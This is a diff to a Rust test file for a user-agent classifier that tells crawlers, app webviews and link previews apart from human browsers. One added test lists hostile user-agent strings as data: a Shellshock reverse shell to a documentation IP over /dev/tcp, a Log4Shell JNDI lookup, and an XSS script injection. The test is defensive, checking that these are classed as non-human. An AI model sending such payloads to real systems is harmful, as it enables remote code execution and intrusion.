@@ -1,3 +1,6 @@
+use std::collections::HashSet;
+
+use super::tables::lines;
 use super::*;
 
 const CRAWLERS: &str = include_str!("../../../tests/corpus/agents/crawlers.txt");
@@ -97,6 +100,8 @@ fn what_no_line_names_is_told_by_words_addresses_and_missing_marks() {
         "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/120.0 (write to me@research.example.org)",
         "Mozilla/5.0 (compatible; Nobody/1.0)",
         "totally-unheard-of",
+        "4711",
+        "x",
     ] {
         assert_eq!(name(agent), Some(OTHER), "{agent}");
     }
@@ -105,23 +110,63 @@ fn what_no_line_names_is_told_by_words_addresses_and_missing_marks() {
 }
 
 #[test]
-fn a_crawlers_word_in_a_devices_model_or_an_at_before_a_version_means_nothing() {
+fn attacks_and_shells_are_no_persons() {
+    for agent in [
+        "() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.7/2311 0<&1 2>&1",
+        "${jndi:ldap://203.0.113.7/a}",
+        "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-NZ) WindowsPowerShell/5.1.14393.693",
+        "Z\"><script src=https://a.test/aq></script>",
+        "Google",
+        "Mozilla/5.0",
+    ] {
+        assert!(name(agent).is_some(), "{agent}");
+    }
+}
+
+#[test]
+fn an_ai_reader_without_an_address_is_told_by_its_compatible() {
+    for agent in ["NewestReader/1.0", "Some-Agent/2.1"] {
+        let agent = format!("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {agent})");
+        assert_eq!(name(&agent), Some(OTHER), "{agent}");
+    }
+}
+
+#[test]
+fn a_link_preview_of_messages_is_known_by_its_end() {
+    let agent = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) \
+                 Version/16.5 Safari/605.1.15 (MobileSMS/1.0)";
+    assert_eq!(name(agent), Some("iMessage preview"));
+}
+
+#[test]
+fn a_word_inside_the_name_of_a_phone_or_an_app_means_nothing() {
     for agent in [
         "Mozilla/5.0 (Linux; Android 7.0; M bot 51 Build/NRD90M) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/56.0 Mobile Safari/537.36",
         "Mozilla/5.0 (Linux; Android 9; CUBOT_NOVA) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0 Mobile Safari/537.36",
         "Mozilla/5.0 (Linux; U; Android 4.4; es-es; CUBOT GT99 Build/KOT49H) AppleWebKit/534.30 Version/4.0 Mobile Safari/534.30",
         "Mozilla/5.0 (Linux; Android 10; Spider 4) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0 Mobile Safari/537.36",
+        "Mozilla/5.0 (Linux; Android 14; SM-A155F; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0 Mobile Safari/537.36 CamScanner/6.70",
+        "Mozilla/5.0 (Linux; Android 14; SM-A155F; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBCR/OrangeBotswana]",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 BOTIM/3.4 TurboTax/7 iRobotHome/7.1",
         "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1 (Ecosia ios@9.0.1)",
         "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/470.0]",
+        "Mozilla/5.0 (Linux; x86_64) Ladybird/1.0",
     ] {
         assert_eq!(name(agent), None, "{agent}");
     }
 }
 
 #[test]
-fn a_listed_user_agent_is_a_persons_only_byte_for_byte() {
-    assert_eq!(name("Grasshopper"), None);
-    assert_eq!(name("Grasshopper2"), Some(OTHER));
+fn a_crawler_that_poses_as_a_phone_is_told_by_its_address_or_its_compatible() {
+    let phone = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Mobile Safari/537.36";
+    assert_eq!(name(phone), None);
+    for rest in [
+        "(compatible; Foobot/1.0)",
+        "(compatible; Foo/1.0; +https://foo.example)",
+        "foo@foo.example",
+    ] {
+        assert_eq!(name(&format!("{phone} {rest}")), Some(OTHER), "{rest}");
+    }
 }
 
 #[test]
@@ -133,7 +178,7 @@ fn no_line_of_the_tables_is_there_twice_or_hides_behind_another() {
     for text in &texts {
         assert!(seen.insert(text.clone()), "{text} is there twice");
     }
-    let words = lines(include_str!("words.txt")).map(|l| &l[1..]);
+    let words = lines(include_str!("words.txt")).map(|l| l[1..].trim_end_matches('*'));
     let anywhere: Vec<&str> = texts
         .iter()
         .map(String::as_str)
@@ -146,7 +191,7 @@ fn no_line_of_the_tables_is_there_twice_or_hides_behind_another() {
         assert_eq!(hidden, None, "^{text} adds nothing, and hides it elsewhere");
     }
     for line in lines(include_str!("words.txt")) {
-        assert!(line.starts_with(['+', '-']) && line.len() > 2, "{line}");
+        assert!(line.starts_with(['+', '!', '-']) && line.len() > 2, "{line}");
         assert_eq!(line, line.to_ascii_lowercase(), "{line}");
     }
 }
